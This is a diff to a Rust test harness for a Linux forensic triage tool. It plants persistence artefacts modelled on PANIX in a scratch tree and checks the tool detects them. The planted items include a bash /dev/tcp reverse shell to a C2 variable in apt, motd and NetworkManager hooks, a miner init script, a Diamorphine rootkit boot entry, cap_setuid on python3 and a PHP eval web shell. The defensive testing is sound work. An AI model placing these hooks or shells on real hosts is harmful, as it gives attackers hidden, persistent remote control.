@@ -182,6 +182,18 @@ bash.
 Summary: ferret planted-root package
 %description -n util-linux
 nologin.
+%package -n iputils
+Summary: ferret planted-root package
+%description -n iputils
+ping, with the capabilities CentOS 7 and Rocky 8 give it.
+%package -n shadow-utils
+Summary: ferret planted-root package
+%description -n shadow-utils
+newuidmap, with the capability Rocky gives it.
+%package -n python3
+Summary: ferret planted-root package
+%description -n python3
+python3.
 %install
 mkdir -p %{buildroot}/usr/bin
 printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 procps-ng ps as packaged\n' > %{buildroot}/usr/bin/ps
@@ -190,6 +202,9 @@ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 coreutils ls as 
 mkdir -p %{buildroot}/usr/sbin
 printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 bash\n' > %{buildroot}/usr/bin/bash
 printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 nologin\n' > %{buildroot}/usr/sbin/nologin
+printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 ping\n' > %{buildroot}/usr/bin/ping
+printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 newuidmap\n' > %{buildroot}/usr/bin/newuidmap
+printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 python3\n' > %{buildroot}/usr/bin/python3
 %files
 %attr(0755,root,root) /usr/bin/ps
 %attr(0755,root,root) /usr/bin/top
@@ -199,6 +214,12 @@ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 nologin\n' > %{b
 %attr(0755,root,root) /usr/bin/bash
 %files -n util-linux
 %attr(0755,root,root) /usr/sbin/nologin
+%files -n iputils
+%attr(0755,root,root) %caps(cap_net_admin,cap_net_raw=p) /usr/bin/ping
+%files -n shadow-utils
+%attr(0755,root,root) %caps(cap_setuid=ep) /usr/bin/newuidmap
+%files -n python3
+%attr(0755,root,root) /usr/bin/python3
 ";
 
 /// The clean host: accounts with shadow's backups, sshd, cron, a package database owning
@@ -466,6 +487,12 @@ fn clean(d: Distro, root: &Path, work: &Path) {
         for (pkg, file, body) in [
             ("bash", "usr/bin/bash", &b"\x7fELF bash\n"[..]),
             ("login", "usr/sbin/nologin", &b"\x7fELF nologin\n"[..]),
+            ("iputils-ping", "usr/bin/ping", &b"\x7fELF ping\n"[..]),
+            (
+                "python3.12-minimal",
+                "usr/bin/python3",
+                &b"\x7fELF python3\n"[..],
+            ),
         ] {
             write(root, file, body);
             chmod(root, file, 0o755);
@@ -486,8 +513,15 @@ fn clean(d: Distro, root: &Path, work: &Path) {
             "Package: procps\nStatus: install ok installed\nVersion: 2:4.0.4-4ubuntu3\nArchitecture: amd64\n\n\
              Package: coreutils\nStatus: install ok installed\nVersion: 9.4-3ubuntu6\nArchitecture: amd64\n\n\
              Package: bash\nStatus: install ok installed\nVersion: 5.2.21-2ubuntu4\nArchitecture: amd64\n\n\
-             Package: login\nStatus: install ok installed\nVersion: 1:4.13+dfsg1-4ubuntu3\nArchitecture: amd64\n\n",
+             Package: login\nStatus: install ok installed\nVersion: 1:4.13+dfsg1-4ubuntu3\nArchitecture: amd64\n\n\
+             Package: iputils-ping\nStatus: install ok installed\nVersion: 3:20240117-1build1\nArchitecture: amd64\n\n\
+             Package: python3.12-minimal\nStatus: install ok installed\nVersion: 3.12.3-1ubuntu0.1\nArchitecture: amd64\n\n",
         );
+        // Ubuntu's ping carries cap_net_raw (set by the package's postinst, which dpkg does
+        // not record): stays quiet. (The rpm trees get theirs from the spec's %caps.)
+        if !setcap(root, "usr/bin/ping", "cap_net_raw+ep") {
+            eprintln!("note: setcap does not work here: no stock capability in the clean tree");
+        }
     }
 
     // The administrator's routine login, in the logs and in wtmp/lastlog.
@@ -573,6 +607,59 @@ fn clean(d: Distro, root: &Path, work: &Path) {
     lastlog[292 * 1000 + 4..292 * 1000 + 9].copy_from_slice(b"pts/0");
     lastlog[292 * 1000 + 36..292 * 1000 + 36 + ADMIN_IP.len()].copy_from_slice(ADMIN_IP.as_bytes());
     write(root, "var/log/lastlog", lastlog);
+
+    // Stock hook places (init scripts, package manager hooks and plugins, motd, network
+    // hooks, modules loaded at boot): quiet on a clean host.
+    if d.rpm() {
+        write(
+            root,
+            "etc/rc.d/init.d/functions",
+            "# -*-Shell-script-*-\nTEXTDOMAIN=initscripts\numask 022\nPATH=\"/sbin:/usr/sbin:/bin:/usr/bin\"\nexport PATH\n__pids_var_run() {\n    local base=${1##*/}\n    local pid_file=${2:-/var/run/$base.pid}\n}\n",
+        );
+        std::os::unix::fs::symlink("rc.d/init.d", root.join("etc/init.d")).unwrap();
+        let (dir, conf) = if d == Distro::Centos7 {
+            ("etc/yum/pluginconf.d", "fastestmirror.conf")
+        } else {
+            ("etc/dnf/plugins", "copr.conf")
+        };
+        write(root, &format!("{dir}/{conf}"), "[main]\nenabled=1\n");
+        write(
+            root,
+            "etc/NetworkManager/dispatcher.d/11-dhclient",
+            "#!/bin/bash\n# run dhclient.d scripts in an emulated environment\nPATH=/bin:/usr/bin:/sbin\nSAVEDIR=/var/lib/dhclient\ninterface=$1\n",
+        );
+        write(
+            root,
+            "usr/lib/modprobe.d/firewalld-sysctls.conf",
+            "install nf_conntrack /usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --pattern 'net[.]netfilter[.]nf_conntrack.*' --system\n",
+        );
+    } else {
+        write(
+            root,
+            "etc/init.d/ssh",
+            "#! /bin/sh\nset -e\ntest -x /usr/sbin/sshd || exit 0\n. /lib/lsb/init-functions\ncase \"$1\" in\n  start)\n\tstart-stop-daemon --start --quiet --oknodo --chuid 0:0 --pidfile /run/sshd.pid --exec /usr/sbin/sshd -- $SSHD_OPTS\n\t;;\nesac\n",
+        );
+        std::fs::create_dir_all(root.join("etc/rc2.d")).unwrap();
+        std::os::unix::fs::symlink("../init.d/ssh", root.join("etc/rc2.d/S01ssh")).unwrap();
+        write(
+            root,
+            "etc/apt/apt.conf.d/70debconf",
+            "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n",
+        );
+        write(
+            root,
+            "etc/update-motd.d/91-release-upgrade",
+            "#!/bin/sh\nif [ -x /usr/lib/ubuntu-release-upgrader/release-upgrade-motd ]; then\n    exec /usr/lib/ubuntu-release-upgrader/release-upgrade-motd\nfi\n",
+        );
+        write(
+            root,
+            "etc/modules",
+            "# /etc/modules: kernel modules to load at boot time.\n",
+        );
+        std::fs::create_dir_all(root.join("etc/modules-load.d")).unwrap();
+        std::os::unix::fs::symlink("../modules", root.join("etc/modules-load.d/modules.conf"))
+            .unwrap();
+    }
 }
 
 /// (auth log, syslog, kernel log, cron log) of the distribution.
@@ -978,6 +1065,47 @@ fn plant(d: Distro, root: &Path) {
         "<?php @eval($_POST['x']);?>",
     );
 
+    // Boot and package-manager hooks (PANIX's --initd, --rootkit, --package-manager, --motd,
+    // --network-manager): an init script starting the miner, Diamorphine loaded at boot, a
+    // reverse shell at every apt update (Debian) or a dnf/yum plugin (rpm), a motd script or a
+    // NetworkManager dispatcher script opening a shell.
+    let init = if d.rpm() {
+        "etc/rc.d/init.d"
+    } else {
+        "etc/init.d"
+    };
+    write(
+        root,
+        &format!("{init}/network-online"),
+        format!("#!/bin/sh\n### BEGIN INIT INFO\n# Provides: network-online\n### END INIT INFO\nnohup {HIDDEN}/upd >/dev/null 2>&1 &\n"),
+    );
+    write(root, "etc/modules-load.d/diamorphine.conf", "diamorphine\n");
+    let revshell = format!("nohup setsid bash -c 'bash -i >& /dev/tcp/{C2}/1337 0>&1' & disown");
+    if d.rpm() {
+        write(
+            root,
+            "etc/NetworkManager/dispatcher.d/panix-dispatcher.sh",
+            format!("#!/bin/sh -e\n{revshell}\n"),
+        );
+        let dir = if d == Distro::Centos7 {
+            "etc/yum/pluginconf.d"
+        } else {
+            "etc/dnf/plugins"
+        };
+        write(root, &format!("{dir}/pkgcon.conf"), "[main]\nenabled=1\n");
+    } else {
+        write(
+            root,
+            "etc/apt/apt.conf.d/01python-upgrades",
+            format!("APT::Update::Pre-Invoke {{\"({revshell}) &\"}};\n"),
+        );
+        write(
+            root,
+            "etc/update-motd.d/137-python-upgrades",
+            format!("#!/bin/sh\n{revshell}\n"),
+        );
+    }
+
     // Login records wiped: wtmp emptied (`> /var/log/wtmp`), lastlog cut mid-record.
     write(root, "var/log/wtmp", b"");
     let lastlog = std::fs::read(root.join("var/log/lastlog")).unwrap();
@@ -995,6 +1123,24 @@ fn immutable(root: &Path) -> bool {
             .is_ok_and(|s| s.success())
     };
     ok("root/.ssh/authorized_keys") && ok("etc/cron.d/apache")
+}
+
+/// `setcap CAPS root/rel` with the real tool; false where it cannot (not root, no libcap2-bin).
+fn setcap(root: &Path, rel: &str, caps: &str) -> bool {
+    Command::new("setcap")
+        .arg(caps)
+        .arg(root.join(rel))
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success())
+}
+
+/// PANIX `--cap`: `cap_setuid+ep` on the system's python3, and on a copy of it in the miner's
+/// hidden directory; false where capabilities cannot be set here.
+fn capabilities(root: &Path) -> bool {
+    let copy = format!("{}/py", HIDDEN.trim_start_matches('/'));
+    std::fs::copy(root.join("usr/bin/python3"), root.join(&copy)).unwrap();
+    setcap(root, "usr/bin/python3", "cap_setuid+ep") && setcap(root, &copy, "cap_setuid+ep")
 }
 
 fn clear_flags(root: &Path) {
@@ -1276,6 +1422,66 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             Critical,
         ),
     ];
+    v.push(expect(
+        "cap_setuid+ep on python3",
+        "persistence.interpreter-capability",
+        "/usr/bin/python3",
+        Critical,
+    ));
+    v.push(expect(
+        "cap_setuid+ep on a python copy in the miner's directory",
+        "files.capability-unusual-location",
+        "/.rsync/c/py",
+        Critical,
+    ));
+    if d.rpm() {
+        // The same python3 under rpm -V: capabilities the package does not record (P).
+        v.push(expect(
+            "python3's capability against the rpm record",
+            "pkg.caps-changed",
+            "/usr/bin/python3",
+            High,
+        ));
+    }
+    v.push(expect(
+        "init script starting the miner",
+        "persistence.init-script",
+        "/init.d/network-online",
+        High,
+    ));
+    v.push(expect(
+        "Diamorphine in modules-load.d",
+        "persistence.module-rootkit",
+        "diamorphine",
+        Critical,
+    ));
+    if d.rpm() {
+        v.push(expect(
+            "NetworkManager dispatcher reverse shell",
+            "persistence.network-hook",
+            "panix-dispatcher.sh",
+            High,
+        ));
+        v.push(expect(
+            "dnf/yum plugin no distribution ships",
+            "persistence.package-manager-plugin",
+            "pkgcon.conf",
+            Medium,
+        ));
+    } else {
+        v.push(expect(
+            "apt Pre-Invoke reverse shell",
+            "persistence.package-manager-hook",
+            "01python-upgrades",
+            High,
+        ));
+        v.push(expect(
+            "motd reverse shell",
+            "persistence.motd-script",
+            "137-python-upgrades",
+            High,
+        ));
+    }
     if wipe_auth {
         v.push(expect(
             "auth log emptied",
@@ -1395,6 +1601,10 @@ fn run(d: Distro, wipe_auth: bool) {
     if !flags {
         eprintln!("note: chattr +i does not work here: the immutable-key item is not planted");
     }
+    let caps = capabilities(&root);
+    if !caps {
+        eprintln!("note: setcap does not work here: the capability items are not planted");
+    }
     keep(d, true, wipe_auth, &root);
     let r: Report = triage_root(
         &HostRoot::new(&root).unwrap(),
@@ -1406,6 +1616,9 @@ fn run(d: Distro, wipe_auth: bool) {
     let mut table = String::new();
     for e in expectations(d, wipe_auth) {
         if !flags && e.id == "evasion.immutable-file" {
+            continue;
+        }
+        if !caps && (e.id.contains("capability") || e.id == "pkg.caps-changed") {
             continue;
         }
         match r.findings.iter().find(|f| matches(f, &e)) {
